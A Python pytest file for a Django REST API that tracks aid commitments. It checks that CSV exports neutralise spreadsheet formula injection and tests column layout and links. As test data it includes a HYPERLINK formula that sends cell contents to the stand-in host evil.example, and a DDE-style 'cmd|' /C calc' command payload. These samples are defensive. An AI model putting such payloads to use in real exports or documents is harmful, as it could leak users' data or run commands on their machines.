"""CSV exports are opened in spreadsheets: a text cell a spreadsheet would run as a formula
(``=``, ``+``, ``-``, ``@``, a tab or a carriage return first) is prefixed with a quote,
while numbers, negative amounts included, stay numbers. (Each list's header and row
count are checked for every resource in tests/api/base.py.)"""

import csv
import io
import re
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from rest_framework.test import APIClient

from api.urls import router
from ledger import services
from tests.api.base import csv_rows, streamed
from tests.api.world import World

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def table(client: APIClient, endpoint: str, **params: Any) -> list[dict[str, str]]:
    response = client.get(f"/api/v1/{endpoint}/", {"format": "csv", **params})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="')
    header, *rows = csv_rows(response)
    return [dict(zip(header, row, strict=True)) for row in rows]


def csv_rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def raw(client: APIClient, endpoint: str, **params: Any) -> str:
    response = client.get(f"/api/v1/{endpoint}/", {"format": "csv", **params})
    return streamed(response)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_title_that_starts_a_formula_is_quoted(api: APIClient, world: World, start: str) -> None:
    title = f"{start}cmd|' /C calc'!A0"
    services.record_source(title=title, url="https://example.org/formula")
    (row,) = table(api, "sources", url__icontains="formula")
    assert row["title"] == f"'{title}"


def test_a_hyperlink_formula_in_an_organization_name_is_inert(api: APIClient, world: World) -> None:
    organization = services.create_organization(name=HYPERLINK, kind="ngo")
    (row,) = table(api, "organizations", kind="ngo")
    assert row["name"] == "'" + HYPERLINK
    # The JSON is left alone: only a spreadsheet runs formulas.
    detail = api.get(f"/api/v1/organizations/{organization.pk}/").json()
    assert detail["name"] == HYPERLINK


def test_a_source_title_and_excerpt_are_quoted(api: APIClient, world: World) -> None:
    services.record_source(title="@SUM(1)", excerpt="+1+1", publisher="-2+3")
    (row,) = table(api, "sources", title__icontains="SUM")
    assert (row["title"], row["excerpt"], row["publisher"]) == ("'@SUM(1)", "'+1+1", "'-2+3")


def test_nested_and_listed_text_is_quoted_too(api: APIClient, world: World) -> None:
    donor = services.create_organization(name="=1+1", kind="ngo", aliases=["@alias"])
    services.create_commitment(
        donor=donor,
        title="-minus",
        category="military",
        announced_on=date(2025, 1, 2),
        source=world.news,
    )
    (commitment,) = table(api, "commitments", donor=donor.pk)
    assert commitment["donor.name"] == "'=1+1"
    assert commitment["title"] == "'-minus"
    (organization,) = table(api, "organizations", kind="ngo")
    assert organization["aliases"] == "'@alias"


def test_a_reversal_keeps_its_negative_amount_a_number(api: APIClient, world: World) -> None:
    (reversal,) = table(api, "entries", is_reversal="true")
    assert reversal["signed_amount"] == "-300.0000"
    assert reversal["amount"] == "300.0000"
    line = next(line for line in raw(api, "entries").splitlines() if ",-300.0000," in line)
    assert "'-300" not in line
    assert '"-300' not in line


def test_negative_and_decimal_text_that_is_a_number_stays_a_number(
    api: APIClient, world: World
) -> None:
    """A text cell holding only a number ("-5") cannot run: it is left as it is."""
    services.record_source(title="-5", url="https://example.org/minus-five")
    (row,) = table(api, "sources", url__icontains="minus-five")
    assert row["title"] == "-5"


def test_plain_text_is_left_alone(api: APIClient, world: World) -> None:
    rows = table(api, "organizations")
    assert {row["name"] for row in rows} >= {"Ukraine", "United Kingdom"}


def test_figures_are_flattened_into_columns(api: APIClient, world: World) -> None:
    rows = table(api, "commitments", currency="USD", ordering="id")
    assert rows[0]["figures.pledged"] == "500.00"
    assert rows[0]["figures.currency"] == "USD"
    assert Decimal(rows[2]["figures.outstanding"]) == Decimal("-100.00")


def test_a_relation_empty_in_the_first_row_is_kept_in_the_later_ones(
    api: APIClient, world: World
) -> None:
    """The columns come from the serializer, not from the first row: Ukraine (first by
    name) has no parent, the Pentagon's parent must still be exported."""
    rows = table(api, "organizations")
    assert rows[0]["name"] == "Ukraine"
    assert rows[0]["parent.name"] == ""
    pentagon = next(row for row in rows if row["name"].endswith("Department of Defense"))
    assert pentagon["parent.name"] == "United States"
    assert pentagon["parent.id"] == str(world.united_states.pk)


def test_pauses_export_their_optional_relations(api: APIClient, world: World) -> None:
    rows = table(api, "pauses", ordering="-paused_on")
    weapons, relief = rows
    assert weapons["commitment.title"] == ""
    assert relief["commitment.title"] == "Humanitarian support"
    assert weapons["resumption_source.title"] == "Press release"
    assert relief["resumption_source.title"] == ""


def test_an_empty_list_still_has_its_header(api: APIClient, world: World) -> None:
    response = api.get("/api/v1/organizations/", {"format": "csv", "kind": "conference"})
    header, *rows = csv_rows(response)
    assert rows == []
    assert header[:3] == ["id", "url", "name"]


@pytest.mark.parametrize(
    ("params", "first"),
    [({"group_by": "donor,year"}, "pledged"), ({}, "pledged")],
)
def test_an_empty_summary_still_has_its_header(
    api: APIClient, world: World, params: dict[str, str], first: str
) -> None:
    query = {"format": "csv", "as_of": "1999-01-01", **params}
    header, *rows = csv_rows(api.get("/api/v1/summary/", query))
    assert rows == []
    assert header[0] == first
    assert header[-1] == "currency"
    assert "donor_name" in header


def test_an_empty_timeline_still_has_its_header(api: APIClient, world: World) -> None:
    header, *rows = csv_rows(api.get("/api/v1/timeline/", {"format": "csv", "until": "1999-01-01"}))
    assert rows == []
    assert header[:4] == ["date", "kind", "id", "url"]
    assert "donor.name" in header


# --- what a cell holds: readable text and the JSON resources' links ------------------------

LISTS = [prefix for prefix, _, _ in router.registry] + ["summary", "timeline"]
REPR = re.compile(r"""\{'|\['|^[\[{(]|<\w+ object""")


def test_identifiers_are_scheme_value_pairs(api: APIClient, world: World) -> None:
    services.create_commitment(
        donor=world.united_kingdom,
        title="Two identifiers",
        category="military",
        announced_on=date(2025, 1, 2),
        source=world.news,
        identifiers={"iati": "GB-GOV-1-123", "kiel": "GB-7"},
    )
    rows = {row["title"]: row for row in table(api, "commitments")}
    assert rows["Presidential drawdown package"]["identifiers"] == "iati:US-1-PDA"
    assert sorted(rows["Two identifiers"]["identifiers"].split("; ")) == [
        "iati:GB-GOV-1-123",
        "kiel:GB-7",
    ]
    assert rows["Humanitarian support"]["identifiers"] == ""


def test_memberships_name_the_organization_and_its_role(api: APIClient, world: World) -> None:
    rows = {row["name"]: row for row in table(api, "coordination-bodies")}
    memberships = rows["Ukraine Defense Contact Group"]["memberships"].split("; ")
    assert sorted(memberships) == ["United Kingdom (member)", "United States (lead)"]


@pytest.mark.parametrize("endpoint", LISTS)
def test_no_cell_is_a_python_repr(api: APIClient, world: World, endpoint: str) -> None:
    params = {"group_by": "commitment,donor,recipient,stage"} if endpoint == "summary" else {}
    rows = table(api, endpoint, **params)
    assert rows, endpoint
    for row in rows:
        for column, value in row.items():
            assert not REPR.search(value), (endpoint, column, value)


@pytest.mark.parametrize("endpoint", LISTS)
def test_links_are_the_json_resources(api: APIClient, world: World, endpoint: str) -> None:
    """Every URL in an export is the resource's own (absolute, without ``?format=csv``),
    and answers JSON."""
    links = [
        value
        for row in table(api, endpoint)
        for column, value in row.items()
        if value and (column == "url" or column.endswith(".url"))
    ]
    assert links or endpoint == "summary"
    for link in links:
        assert link.startswith("http://testserver/api/v1/"), link
        assert "?" not in link, link  # no ?format=csv, nor any other parameter
    if links:
        response = api.get(links[0])
        assert response.status_code == 200
        assert response["Content-Type"] == "application/json"


def test_a_detail_in_csv_links_to_its_json(api: APIClient, world: World) -> None:
    response = api.get(f"/api/v1/commitments/{world.drawdown.pk}/", {"format": "csv"})
    header, row = csv_rows_of(response.content.decode())
    cells = dict(zip(header, row, strict=True))
    assert cells["url"] == f"http://testserver/api/v1/commitments/{world.drawdown.pk}/"
    assert cells["identifiers"] == "iati:US-1-PDA"
